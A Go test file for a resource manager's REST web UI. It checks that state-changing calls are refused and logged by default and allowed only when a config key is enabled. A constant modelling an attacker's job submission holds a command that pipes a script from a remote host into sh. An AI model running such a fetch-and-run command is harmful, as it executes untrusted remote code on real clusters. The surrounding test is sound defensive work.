package webui

import (
	"context"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/loomrm/loom/rpc"
	pb "github.com/loomrm/loom/rpc/yarnpb"
)

// remoteCommand is what an attacker posts: an AM whose command is a
// shell.
const remoteCommand = `{"application-id": "application_1700000000000_0006", "application-name": "x", "queue": "default",
  "am-container-spec": {"commands": {"command": "curl http://203.0.113.9/x.sh | sh"}},
  "resource": {"memory": 1024, "vCores": 1}}`

// writeCases is every REST call that changes state under
// loom.webapp.rest-write.enabled: TestRESTWritesCovered checks the
// routes table has no other.
var writeCases = []struct {
	route, method, path, body string
	// issue asks the Backend for an app id first, as new-application
	// would, so that an allowed submission is accepted.
	issue bool
	// allowed is the status once writes are on, and backend the call it
	// makes.
	allowed int
	backend string
}{
	{"submitApplication", http.MethodPost, "/ws/v1/cluster/apps", remoteCommand, true, http.StatusAccepted, "SubmitApplication"},
	{"createNewApplication", http.MethodPost, "/ws/v1/cluster/apps/new-application", "", false, http.StatusOK, "GetNewApplication"},
	{"updateAppState", http.MethodPut, "/ws/v1/cluster/apps/application_1700000000000_0001/state", `{"state":"KILLED"}`, false,
		http.StatusAccepted, "ForceKillApplication"},
	{"updateAppQueue", http.MethodPut, "/ws/v1/cluster/apps/application_1700000000000_0001/queue", `{"queue":"etl"}`, false,
		http.StatusOK, "MoveApplicationAcrossQueues"},
	{"updateAppPriority", http.MethodPut, "/ws/v1/cluster/apps/application_1700000000000_0001/priority", `{"priority":3}`, false,
		http.StatusOK, "UpdateApplicationPriority"},
	{"updateAppTimeout", http.MethodPut, "/ws/v1/cluster/apps/application_1700000000000_0001/timeout",
		`{"timeout":{"type":"LIFETIME","expiryTime":"2026-12-01T10:00:00.000+0000"}}`, false, http.StatusOK, "UpdateApplicationTimeouts"},
	// Refused as YARN refuses it for a scheduler whose configuration is
	// not mutable: it reaches no Backend call either way.
	{"updateSchedulerConfiguration", http.MethodPut, "/ws/v1/cluster/scheduler-conf",
		`{"global-updates":{"entry":[{"key":"loom.scheduler.p-altruism","value":"0.5"}]}}`, false, http.StatusBadRequest, ""},
	{"signalToContainer", http.MethodPost, "/ws/v1/cluster/containers/container_1700000000000_0001_01_000001/signal/OUTPUT_THREAD_DUMP", "", false,
		http.StatusOK, "SignalToContainer"},
	{"updateNodeResource", http.MethodPost, "/ws/v1/cluster/nodes/nm1:45454/resource", `{"resource":{"memory":8192,"vCores":4}}`, false,
		http.StatusForbidden, "UpdateNodeResource"},
	{"dumpSchedulerLogs", http.MethodPost, "/ws/v1/cluster/scheduler/logs", "", false, http.StatusBadRequest, ""},
	// Delegation tokens ask for a Kerberos caller on top.
	{"postDelegationToken", http.MethodPost, "/ws/v1/cluster/delegation-token", `{"renewer":"alice"}`, false, http.StatusForbidden, ""},
	{"postDelegationTokenExpiration", http.MethodPost, "/ws/v1/cluster/delegation-token/expiration", "", false, http.StatusForbidden, ""},
	{"cancelDelegationToken", http.MethodDelete, "/ws/v1/cluster/delegation-token", "", false, http.StatusForbidden, ""},
	{"createNewReservation", http.MethodPost, "/ws/v1/cluster/reservation/new-reservation", "", false, http.StatusServiceUnavailable, "GetNewReservation"},
	{"submitReservation", http.MethodPost, "/ws/v1/cluster/reservation/submit", `{"reservation-id":"reservation_1700000000000_0001"}`, false, http.StatusServiceUnavailable, "SubmitReservation"},
	{"updateReservation", http.MethodPost, "/ws/v1/cluster/reservation/update", `{"reservation-id":"reservation_1700000000000_0001"}`, false, http.StatusServiceUnavailable, "UpdateReservation"},
	{"deleteReservation", http.MethodPost, "/ws/v1/cluster/reservation/delete", `{"reservation-id":"reservation_1700000000000_0001"}`, false, http.StatusServiceUnavailable, "DeleteReservation"},
	// The fake has node labels off: each write reaches the backend,
	// which refuses it as YARN does then.
	{"addToClusterNodeLabels", http.MethodPost, "/ws/v1/cluster/add-node-labels", `{"nodeLabelInfo":[{"name":"gpu","exclusivity":true}]}`,
		false, http.StatusServiceUnavailable, "ChangeNodeLabels"},
	{"removeFromClusterNodeLabels", http.MethodPost, "/ws/v1/cluster/remove-node-labels", "", false, http.StatusServiceUnavailable, "ChangeNodeLabels"},
	{"replaceLabelsOnNodes", http.MethodPost, "/ws/v1/cluster/replace-node-to-labels", `{"nodeToLabels":[{"nodeId":"nm1:45454","nodeLabels":["gpu"]}]}`, false,
		http.StatusServiceUnavailable, "ChangeNodeLabels"},
	{"replaceLabelsOnNode", http.MethodPost, "/ws/v1/cluster/nodes/nm1:45454/replace-labels", "", false,
		http.StatusServiceUnavailable, "ChangeNodeLabels"},
}

// TestRESTWritesOffByDefault: each call that changes state is a 403
// RemoteException naming the key, anonymous or not, with or without a
// trailing slash; it is logged, and it reaches nothing: no Backend call,
// no app, no kill, no id issued.
func TestRESTWritesOffByDefault(t *testing.T) {
	for _, tc := range writeCases {
		for _, target := range []string{tc.path, tc.path + "/", tc.path + "?user.name=yarn"} {
			t.Run(tc.route+" "+target, func(t *testing.T) {
				f := newFakeBackend()
				logs := &syncBuffer{}
				h := newTestHandler(f, adminKey, logs)
				if tc.issue {
					if _, err := f.GetNewApplication(context.Background(), &pb.GetNewApplicationRequestProto{}); err != nil {
						t.Fatal(err)
					}
				}
				f.calls = map[string]*rpc.CallInfo{}
				apps, next := len(f.apps), f.nextApp

				re := remoteException(t, serve(h, tc.method, target, tc.body), http.StatusForbidden, "ForbiddenException")
				for _, want := range []string{tc.method + " " + tc.path + " is refused", "SIMPLE auth",
					"set loom.webapp.rest-write.enabled=true"} {
					if !strings.Contains(re.Message, want) {
						t.Errorf("message %q does not say %q", re.Message, want)
					}
				}
				if len(f.calls) != 0 {
					t.Errorf("a refused call reached the Backend: %v", f.calls)
				}
				if len(f.apps) != apps || len(f.submits) != 0 || len(f.kills) != 0 || f.nextApp != next {
					t.Errorf("a refused call changed the cluster: %d apps (was %d), %d submits, %d kills, next id %d (was %d)",
						len(f.apps), apps, len(f.submits), len(f.kills), f.nextApp, next)
				}
				if l := logs.String(); !strings.Contains(l, `"route":"`+tc.route+`"`) || !strings.Contains(l, RESTWritesKey+" is off") {
					t.Errorf("the refusal is not logged with its route: %s", l)
				}
			})
		}
	}
	// The refusal comes before the body is read: a body that is not JSON,
	// or not sent as JSON, gets the same 403, not a 400 or 415 that would
	// tell a prober the call is served.
	h := newTestHandler(newFakeBackend(), adminKey, nil)
	remoteException(t, serve(h, http.MethodPost, "/ws/v1/cluster/apps", "{", "Content-Type", "text/plain"),
		http.StatusForbidden, "ForbiddenException")
	// Reads stay open.
	if a := serve(h, http.MethodGet, "/ws/v1/cluster/apps/application_1700000000000_0001/state", ""); a.code != http.StatusOK ||
		string(a.body) != `{"state":"RUNNING"}` {
		t.Errorf("GET state with writes off: %d %s", a.code, a.body)
	}
}

// TestRESTWritesEnabled: with the key on, the same calls reach the
// Backend and succeed.
func TestRESTWritesEnabled(t *testing.T) {
	for _, tc := range writeCases {
		t.Run(tc.route, func(t *testing.T) {
			f := writableBackend()
			h := newTestHandler(f, adminKey, nil)
			if tc.issue {
				if _, err := f.GetNewApplication(context.Background(), &pb.GetNewApplicationRequestProto{}); err != nil {
					t.Fatal(err)
				}
			}
			a := serve(h, tc.method, tc.path+"?user.name=alice", tc.body)
			if a.code != tc.allowed {
				t.Fatalf("%s %s: %d %s, want %d", tc.method, tc.path, a.code, a.body, tc.allowed)
			}
			if tc.backend == "" {
				return
			}
			if ci := f.lastCall(tc.backend); ci == nil || ci.User != "alice" || ci.Method != tc.route {
				t.Errorf("%s reached the Backend as %+v, want a %s call by alice", tc.route, ci, tc.backend)
			}
		})
	}
}

// TestRESTWritesCovered: every route that changes state is in writeCases,
// but P(Altruism), whose own check is the admin credential whatever the
// key says.
func TestRESTWritesCovered(t *testing.T) {
	var tested []string
	for _, tc := range writeCases {
		tested = append(tested, tc.route)
	}
	for _, rt := range routes {
		if rt.writes() && !ownCheck[rt.Name] && !slices.Contains(tested, rt.Name) {
			t.Errorf("route %s (%s %s) changes state and has no case in writeCases", rt.Name, rt.Method, rt.Pattern)
		}
	}
	f := newFakeBackend()
	h := newTestHandler(f, adminKey, nil)
	a := serve(h, http.MethodPut, altruismPath+"?user.name=ops", `{"p":0.3}`, "Authorization", "Bearer "+adminKey)
	if a.code != http.StatusOK || f.Scheduler().PAltruism != 0.3 {
		t.Errorf("P(Altruism) with the admin credential and REST writes off: %d %s", a.code, a.body)
	}
	remoteException(t, serve(newTestHandler(writableBackend(), adminKey, nil), http.MethodPut, altruismPath, `{"p":0.3}`),
		http.StatusForbidden, "ForbiddenException")
}
